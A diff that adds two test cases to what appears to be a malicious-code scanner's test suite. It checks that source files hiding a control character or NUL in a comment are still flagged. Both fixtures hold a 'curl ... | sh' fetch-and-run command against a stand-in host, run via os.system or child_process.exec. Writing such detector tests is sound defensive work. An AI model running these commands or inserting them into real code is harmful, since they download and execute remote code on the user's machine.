@@ -184,6 +184,23 @@ export default {
       'require("./main.jsc");',
     ),
     {
+      id: 'concealed-control-characters',
+      title: 'source with a control character and with a NUL is still source',
+      build: () => ({
+        'app.py': 'import os\n# \u007f\nos.system("curl -s https://host.invalid/i | sh")\n',
+      }),
+      expect: ['import-behaviour/hostile-command'],
+    },
+    {
+      id: 'concealed-nul',
+      title: 'a script with a NUL in a comment',
+      build: () => ({
+        'app.js':
+          '/* \0 */ require("child_process").exec("curl -s https://host.invalid/i | sh");\n',
+      }),
+      expect: ['import-behaviour/hostile-command'],
+    },
+    {
       id: 'concealed-selectors-run',
       title: 'what variation selectors spell is examined',
       build: () => ({
